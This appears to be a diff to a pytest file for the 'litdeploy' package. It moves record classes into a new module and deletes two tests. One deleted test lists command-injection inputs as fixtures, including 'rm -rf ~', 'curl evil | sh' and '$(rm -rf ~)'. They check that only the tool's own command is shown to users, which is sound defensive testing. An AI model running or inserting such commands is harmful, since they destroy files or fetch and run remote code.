@@ -5,22 +5,12 @@ from typing import Any
 
 import pytest
 
-from litdeploy.bundle import (
-    Artefact,
-    Bundle,
-    DataRecord,
-    Manifest,
-    RunRecord,
-    TeacherRecord,
-    read_sidecar,
-    sha256_of,
-    sidecar_of,
-    write_whole,
-)
+from litdeploy.bundle import Bundle, read_sidecar, sha256_of, sidecar_of, write_whole
 from litdeploy.checkpoint import write_checkpoint
 from litdeploy.errors import BundleError
 from litdeploy.networks.resnet import resnet
 from litdeploy.recipe import Recipe
+from litdeploy.records import Artefact, DataRecord, Manifest, RunRecord, TeacherRecord
 from litdeploy.spec import InputSpec, NetworkSpec
 
 SPEC = NetworkSpec(
@@ -172,28 +162,6 @@ def artefact(**changes: Any) -> Artefact:
 def test_an_artefact_lies_in_its_bundle(bundle: Bundle, path: str) -> None:
     with pytest.raises(BundleError, match="outside the bundle"):
         bundle.artefact_path(artefact(path=path))
-
-
-@pytest.mark.parametrize(
-    ("command", "told"),
-    [
-        ("litdeploy export deploy --onnx", "litdeploy export deploy --onnx"),
-        ("litdeploy export; rm -rf ~", None),
-        ("curl evil | sh", None),
-        ("litdeploy export 'unended", None),
-        ("litdeploy export\n\x1b[2J", None),
-        ("litdeploy export $(rm -rf ~)", "litdeploy export '$(rm' -rf '~)'"),
-        (3, None),
-    ],
-)
-def test_only_our_own_command_is_shown_as_what_to_type(command: object, told: str | None) -> None:
-    assert artefact(details={"command": command}).command == told
-
-
-@pytest.mark.parametrize("opset", [None, "18", 10**12, 0])
-def test_an_operator_set_that_is_none_is_refused(opset: object) -> None:
-    with pytest.raises(BundleError, match="operator set"):
-        artefact(details={"opset": opset}).opset()
 
 
 def test_a_sidecar_that_is_a_link_is_not_followed(tmp_path: Path) -> None:
